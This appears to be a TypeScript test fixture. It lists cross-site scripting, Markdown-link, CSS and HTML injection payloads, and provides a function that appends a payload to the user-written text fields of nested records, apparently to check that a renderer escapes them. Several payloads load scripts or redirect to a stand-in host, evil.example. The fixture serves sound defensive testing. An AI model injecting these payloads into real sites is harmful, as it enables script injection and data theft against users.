/**
 * Texts that a browser would take for markup or code, and a function that puts them into facts wherever
 * somebody else writes.
 */

/** Attacks: texts that a browser or a reader of Markdown could take for markup, code or links. */
export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)' x='",
  '</title></style></svg></details><script src=//evil.example/x.js></script>',
  '<!-- never closed <![CDATA[ <?php',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x)',
  '[e](&#106;avascript:alert(1)) [f](//evil.example) [g](/etc/passwd) [h](#s1) [i]( javascript:x)',
  '![p](https://evil.example/p.png) <javascript:alert(1)> <https://evil.example/auto>',
  '<a href="javascript:alert(1)">x</a> <svg onload=alert(1)> <math><mtext></mtext></math>',
  '&lt;script&gt; &#60;script&#62; &amp;lt; & &nosuch; &#0; &#x110000;',
  '}body{background:url(//evil.example/x)}/* */@import "//evil.example";',
  '<meta http-equiv=refresh content=0;url=//evil.example> <base href=//evil.example>',
  '<iframe srcdoc="<script>x</script>"></iframe><form action=//evil.example><button>',
  '| a | b\n|---|---\n| <b> | `|` |\n\n~~~\n<script>\n',
  `${'> '.repeat(200)}deep ${'- '.repeat(200)}deeper`,
  '<'.repeat(50),
  `x-C-1-1 C-1-1 __proto__ constructor ${'\\'.repeat(9)}`,
];

/**
 * Returns a copy of a value, such as a fact, in which an attack is appended to every text of the fields that
 * models and people fill, also by files. Ids, times and words that the program chooses stay as they are.
 *
 * @param key The name of the field that holds the value. Without it, a value that is a text stays as it is.
 */
export function addAttack(value: unknown, attack: string, key = ''): unknown {
  if (typeof value === 'string') {
    const isWord = KEPT.has(key) || /^\d{4}-\d\d-\d\dT/.test(value) || /^[A-Z_]+$/.test(value);
    return isWord || !FREE.has(key) ? value : `${value} ${attack}`;
  }
  if (Array.isArray(value)) return value.map((item) => addAttack(item, attack, key));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, field]) => [name, addAttack(field, attack, name)]),
  );
}
const KEPT: ReadonlySet<string> = new Set(['type', 'step', 'attempt', 'protocol', 'run']);
/** The fields that models, people and their files write. */
const FREE: ReadonlySet<string> = new Set([
  ...['question', 'text', 'title', 'model', 'brief', 'option', 'position', 'quote', 'why', 'notes'],
  ...['about', 'message', 'next', 'reason', 'ref', 'testable_as', 'markdown', 'impact', 'tensions'],
  ...['answer', 'name', 'agent', 'choice', 'how', 'because', 'conditions', 'evidence_refs', 'refs'],
  ...['path', 'doneWhen', 'test', 'goal', 'answeredBy', 'missing', 'note', 'degraded', 'sought'],
]);
